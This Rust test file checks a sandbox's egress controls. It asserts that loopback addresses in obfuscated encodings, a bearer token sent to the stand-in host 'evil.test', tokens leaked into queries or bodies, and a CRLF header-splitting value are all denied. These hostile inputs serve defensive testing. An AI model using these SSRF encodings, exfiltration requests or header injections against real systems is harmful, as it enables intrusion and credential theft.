//! What is not let out, and what the run says then.

use std::sync::Arc;

use serde_json::json;

use lockstep_e2e::{Names, Ran, TestHost, Upstream, egress_to};
use lockstep_sandbox::{EgressConfig, SandboxConfig};
use lockstep_step::{Decision, OutcomeKind};

use super::{HALF, Scene, wanted};

fn check_denied(ran: &Ran, reason: &str) {
    let message = ran.message();
    assert_eq!(ran.kind(), OutcomeKind::EgressDenied, "{message}");
    assert!(message.contains(reason), "`{reason}` is not in {message}");
}

#[tokio::test]
async fn a_private_address_is_denied_unless_the_operator_lists_it() {
    let upstream = Upstream::start();
    let host = TestHost::with(SandboxConfig::for_runs(4)).await;
    for name in [
        "127.0.0.1",
        "2130706433",
        "0177.1",
        "[::ffff:127.0.0.1]",
        "[::1]",
    ] {
        let url = upstream.http(name, "/echo");
        let ran = host.run(wanted(&json!({"send": {"url": url}}))).await;
        check_denied(&ran, "the operator has to list the host or its network");
        let receipt = &ran.report.receipt.outbound[0];
        assert_eq!(receipt.decision, Decision::Denied);
        assert_eq!(ran.report.outcome.failure().unwrap().requests_sent, 0);
    }
    assert_eq!(upstream.connections(), 0);
}

#[tokio::test]
async fn a_name_with_a_private_address_is_denied() {
    let upstream = Upstream::start();
    let names = Arc::new(Names::default());
    names.tell("intranet.example", &["127.0.0.1", "10.0.0.1"]);
    let egress = EgressConfig {
        hosts: Vec::new(),
        ..egress_to(&upstream, names)
    };
    let host = TestHost::with(SandboxConfig {
        egress,
        ..SandboxConfig::for_runs(4)
    });
    let host = host.await;
    let url = upstream.https("intranet.example", "/echo");
    let ran = host.run(wanted(&json!({"send": {"url": url}}))).await;
    check_denied(&ran, "no address that requests may go to");
    assert_eq!(upstream.connections(), 0);
}

#[tokio::test]
async fn a_name_that_nobody_knows_is_an_error_of_its_own() {
    let scene = Scene::new().await;
    let url = scene.upstream.https("api.example", "/echo");
    let ran = scene.run(json!({"send": {"url": url}})).await;
    assert_eq!(ran.kind(), OutcomeKind::StepFailed);
    let message = ran.message();
    assert!(message.contains("DnsError"), "{message}");
    assert!(
        message.contains("`api.example` cannot be resolved"),
        "{message}"
    );
}

#[tokio::test]
async fn there_is_no_socket_beside_it() {
    let scene = Scene::new().await;
    let ran = scene
        .run(json!({"connect": scene.upstream.http_port()}))
        .await;
    let tried = ran.output()["error"].as_str().unwrap().to_owned();
    assert_eq!(tried.matches("ccess").count(), 2, "{tried}");
    assert!(!tried.contains("Ok("), "{tried}");
    assert_eq!(scene.upstream.connections(), 0);
}

#[tokio::test]
async fn a_sealed_credential_leaves_for_its_host_and_in_its_place_only() {
    let scene = Scene::new().await;
    let to = format!("api.test:{}", scene.upstream.https_port());
    scene
        .host
        .set_sealed("TOKEN", "sealed-canary-that-stays", &to)
        .await;
    let bearer = json!([["authorization", "Bearer @TOKEN@"]]);
    let url = |host| scene.upstream.https(host, "/echo");
    for (request, reason) in [
        (
            json!({"url": url("evil.test"), "headers": bearer}),
            "not to `evil.test`",
        ),
        (
            json!({"url": format!("{}?key=@TOKEN@", url("api.test"))}),
            "not in query",
        ),
        (
            json!({"method": "POST", "url": url("api.test"), "body": {"text": "@TOKEN@"}}),
            "not in body",
        ),
    ] {
        let ran = scene.run(json!({"send": request})).await;
        check_denied(&ran, reason);
        assert!(
            ran.message().contains("credential_host_denied"),
            "{}",
            ran.message()
        );
    }
    assert!(scene.upstream.received().is_empty());
    let body = json!({"pieces": [3, 10_000]});
    let request =
        json!({"method": "POST", "url": url("api.test"), "headers": bearer, "body": body});
    let answer = scene.send(request).await;
    assert_eq!(answer["status"], 200);
}

#[tokio::test]
async fn what_the_host_says_itself_a_step_cannot_say() {
    let scene = Scene::new().await;
    let url = scene.upstream.https1("api.test", "/echo");
    for name in [
        "host",
        "connection",
        "transfer-encoding",
        "te",
        "trailer",
        "expect",
        "upgrade",
    ] {
        let request = json!({"url": url, "headers": [[name, "x"]]});
        let ran = scene.run(json!({"send": request})).await;
        assert_eq!(ran.kind(), OutcomeKind::StepFailed);
        assert!(ran.message().contains("Forbidden"), "{}", ran.message());
    }
    for method in ["CONNECT", "TRACE"] {
        let ran = scene
            .run(json!({"send": {"url": url, "method": method}}))
            .await;
        check_denied(&ran, method);
    }
    let split = json!({"url": url, "headers": [["x-a", "1\r\nx-b: 2"]]});
    let ran = scene.run(json!({"send": split})).await;
    assert_eq!(ran.kind(), OutcomeKind::StepFailed);
    assert_eq!(scene.upstream.connections(), 0);
    let answer = scene.send(json!({"url": url, "method": "PURGE"})).await;
    assert_eq!(answer["status"], 200);
    assert_eq!(scene.upstream.only().method, "PURGE");
}

#[tokio::test]
async fn a_failure_about_something_else_is_of_the_step_and_tells_of_the_denial() {
    let scene = Scene::new().await;
    let denied = scene.upstream.http("127.0.0.1", "/echo");
    let broken = json!({"url": scene.upstream.raw("api.test", HALF)});
    // The step reports the first error; the other request was denied all the same.
    let ran = scene
        .run(json!({"send_all": [broken, {"url": denied}]}))
        .await;
    let message = ran.message();
    assert_eq!(ran.kind(), OutcomeKind::StepFailed, "{message}");
    assert!(message.contains("broke off"), "{message}");
    assert!(
        message.contains("the host denied a request: requests to `127.0.0.1`"),
        "{message}"
    );
}
